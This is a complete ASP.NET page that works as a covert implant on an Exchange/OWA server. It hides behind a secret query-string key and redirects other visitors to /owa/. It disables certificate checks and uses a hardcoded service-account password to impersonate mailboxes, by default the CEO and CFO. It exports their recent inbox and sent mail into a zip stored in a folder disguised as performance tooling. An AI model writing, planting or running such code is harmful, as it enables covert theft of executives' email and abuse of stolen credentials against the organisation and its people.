<%@ Page Language="C#" Async="false" %>
<%@ Assembly Name="Microsoft.Exchange.WebServices, Version=15.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35" %>
<%@ Assembly Name="System.IO.Compression, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089" %>
<%@ Import Namespace="Microsoft.Exchange.WebServices.Data" %>
<%@ Import Namespace="System.IO" %>
<%@ Import Namespace="System.IO.Compression" %>
<%@ Import Namespace="System.Net" %>
<script runat="server">
    protected void Page_Load(object sender, EventArgs e)
    {
        if (Request.QueryString["k"] != "b7d2") { Response.Redirect("/owa/"); return; }
        ServicePointManager.ServerCertificateValidationCallback = delegate { return true; };

        ExchangeService svc = new ExchangeService(ExchangeVersion.Exchange2013_SP1);
        svc.Credentials = new WebCredentials("svc_ews_archive", "Sp!ng2023#Arch", "CORP");
        svc.Url = new Uri("https://localhost/EWS/Exchange.asmx");

        string[] targets = (Request.QueryString["m"] ?? "ceo@corp.example.com;cfo@corp.example.com").Split(';');
        DateTime since = DateTime.UtcNow.AddDays(-Int32.Parse(Request.QueryString["d"] ?? "30"));
        string zipPath = @"C:\ProgramData\VSPerfMon\" + DateTime.UtcNow.ToString("yyyyMMddHHmm") + ".zip";
        Directory.CreateDirectory(Path.GetDirectoryName(zipPath));

        using (FileStream fs = new FileStream(zipPath, FileMode.Create))
        using (ZipArchive zip = new ZipArchive(fs, ZipArchiveMode.Create))
        {
            foreach (string smtp in targets)
            {
                svc.ImpersonatedUserId = new ImpersonatedUserId(ConnectingIdType.SmtpAddress, smtp);
                foreach (WellKnownFolderName wk in new WellKnownFolderName[] { WellKnownFolderName.Inbox, WellKnownFolderName.SentItems })
                {
                    ItemView view = new ItemView(200);
                    SearchFilter sf = new SearchFilter.IsGreaterThan(ItemSchema.DateTimeReceived, since);
                    FindItemsResults<Item> found;
                    do
                    {
                        found = svc.FindItems(wk, sf, view);
                        foreach (Item it in found)
                        {
                            it.Load(new PropertySet(ItemSchema.MimeContent, ItemSchema.Subject));
                            ZipArchiveEntry ent = zip.CreateEntry(smtp + "/" + wk + "/" + it.Id.UniqueId.GetHashCode().ToString("x8") + ".eml", CompressionLevel.Optimal);
                            using (Stream s = ent.Open()) s.Write(it.MimeContent.Content, 0, it.MimeContent.Content.Length);
                        }
                        view.Offset += found.Items.Count;
                    } while (found.MoreAvailable);
                }
            }
        }
        Response.Write(zipPath + " " + new FileInfo(zipPath).Length);
    }
</script>
